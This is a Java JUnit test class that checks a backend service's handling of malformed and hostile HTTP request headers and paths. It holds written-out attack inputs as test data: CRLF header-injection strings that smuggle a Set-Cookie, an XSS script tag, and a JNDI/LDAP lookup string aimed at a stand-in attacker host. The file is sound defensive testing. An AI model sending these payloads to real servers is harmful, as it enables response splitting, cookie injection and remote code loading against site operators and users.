package io.zendeskbff.attack;

import java.io.IOException;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import io.zendeskbff.contract.BffExtension;
import io.zendeskbff.contract.RunningBff;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * ATTACKS.md, row headers: what is no header is refused, and what would split an answer
 * or be too much for a log line is not echoed. RawTests and ReadTests have more.
 */
@ExtendWith(BffExtension.class)
class HeaderTests {

	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
			CR in the id          | X-Request-Id: a\\rSet-Cookie: a=b
			NUL in the id         | X-Request-Id: a\\0b
			escape in the id      | X-Request-Id: \\033[31m
			DEL in the id         | X-Request-Id: a\\177
			NUL in the origin     | Origin: https://a\\0b
			NUL in a name         | X\\0Y: a
			space in a name       | X Y: a
			parenthesis in a name | X(Y: a
			no ASCII in a name    | X\\374Y: a
			no name               | : a
			no colon              | X-Request-Id
			form feed             | Accept: */*\\014
			""")
	void requestIsRefusedWhenHeaderIsNone(String what, String header, RunningBff bff) throws IOException {
		read(bff, header.translateEscapes()).assertProblem(400, "bad-request");
		assertThat(bff.accountCalls()).as(what).isZero();
	}

	@Test
	void requestIsRefusedWhenFirstHeaderIsFolded(RunningBff bff) throws IOException {
		Answers.to(bff.uri("/"), "GET /api/v2/account HTTP/1.1\r\n X: a\r\nHost: localhost\r\n\r\n")
			.assertProblem(400, "bad-request");
	}

	@ParameterizedTest
	@ValueSource(strings = { "X-Request-Id", "Accept", "If-None-Match", "Cookie", "Traceparent", "X" })
	void requestIsRefusedWhenHeaderHasNineKilobytes(String name, RunningBff bff) throws IOException {
		read(bff, name + ": " + "a".repeat(9 * 1024)).assertProblem(400, "bad-request");
		assertThat(bff.accountCalls()).isZero();
	}

	@Test
	void requestIsRefusedWhenItHasTwoHundredHeaders(RunningBff bff) throws IOException {
		String headers = IntStream.range(0, 200).mapToObj((i) -> "X-" + i + ": a").collect(Collectors.joining("\r\n"));
		read(bff, headers).assertProblem(400, "bad-request");
		assertThat(bff.accountCalls()).isZero();
	}

	/** A bare LF ends a line, RFC 9112 section 2.2, and a folded one is one. */
	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
			encoded CRLF          | a%0d%0aSet-Cookie:%20a=b
			CRLF spelled out      | a\\\\r\\\\nSet-Cookie: a=b
			letters that end so   | a\\304\\215\\304\\212Set-Cookie: a=b
			control beyond ASCII  | a\\302\\205b
			no UTF-8              | \\377\\376
			folded                | a\\r\\n Set-Cookie: a=b
			look-up               | ${jndi:ldap://evil.example/a}
			HTML                  | <script>alert(1)</script>
			""")
	void idIsMadeAnewWhenItIsOdd(String what, String id, RunningBff bff) throws IOException {
		Answers answers = read(bff, "X-Request-Id: " + id.translateEscapes());
		answers.assertOnly(200);
		assertThat(answers.head()).as(what)
			.containsPattern("\r\nx-request-id: [0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}\r\n");
	}

	@Test
	void headerOfTheRequestIsNoneOfTheAnswerWhenBareLineFeedPrecedesIt(RunningBff bff) throws IOException {
		Answers answers = read(bff, "X-Request-Id: abc\nSet-Cookie: a=b");
		answers.assertOnly(200);
		assertThat(answers.head()).contains("\r\nx-request-id: abc\r\n").doesNotContain("a=b");
	}

	/** The path comes back in the problem, as it was sent and in JSON. */
	@ParameterizedTest
	@ValueSource(strings = { "/nowhere%0d%0aSet-Cookie:%20a=b", "/nowhere%0aX", "/nowhere?a=%0d%0aSet-Cookie:%20a=b",
			"/nowhere%e5%98%8a%e5%98%8dSet-Cookie:a=b", "/nowhere%22%2c%3cscript%3e" })
	void answerIsNotSplitWhenPathHoldsLineEnds(String path, RunningBff bff) throws IOException {
		Answers answers = Answers.to(bff.uri("/"),
				"GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
		answers.assertProblem(404, "not-found");
		assertThat(answers.head()).doesNotContain("cookie:", "a=b", "nowhere");
		assertThat(answers.text()).doesNotContain("<script>");
	}

	private static Answers read(RunningBff bff, String headers) throws IOException {
		return Answers.to(bff.uri("/"), "GET " + RunningBff.ACCOUNT + " HTTP/1.1\r\nHost: localhost\r\n"
				+ "Authorization: Bearer " + bff.issuer().owner() + "\r\nConnection: close\r\n" + headers + "\r\n\r\n");
	}

}
